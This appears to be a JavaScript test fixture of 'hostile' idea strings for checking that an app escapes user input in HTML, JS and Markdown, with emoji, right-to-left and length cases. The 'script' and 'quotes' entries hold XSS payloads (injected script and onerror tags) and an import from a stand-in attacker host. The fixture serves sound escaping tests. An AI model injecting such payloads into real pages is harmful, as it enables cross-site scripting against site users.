// Ideas crafted to break out of wherever their text lands (HTML, JS strings,
// Markdown), plus emoji, right-to-left scripts and the maximum length.
export const HOSTILE_IDEAS = {
  script: 'zombies </script><script>alert(1)</script> attack <img src=x onerror=alert(2)> the mall',
  quotes: `a "quoted" robot's 'single' \`tick\` \\ backslash ${'${1+1}'} war import x from "http://evil.example/x.js"`,
  emoji: '🐍🍎 a snake 🐍 eats apples 🍎🍎 in a 🌈 garden ✨',
  rtl: 'ثعبان يأكل التفاح في الحديقة — נחש אוכל תפוחים',
  long: 'a very long idea about towers defending a castle from goblins '.repeat(200).slice(0, 10_000),
};
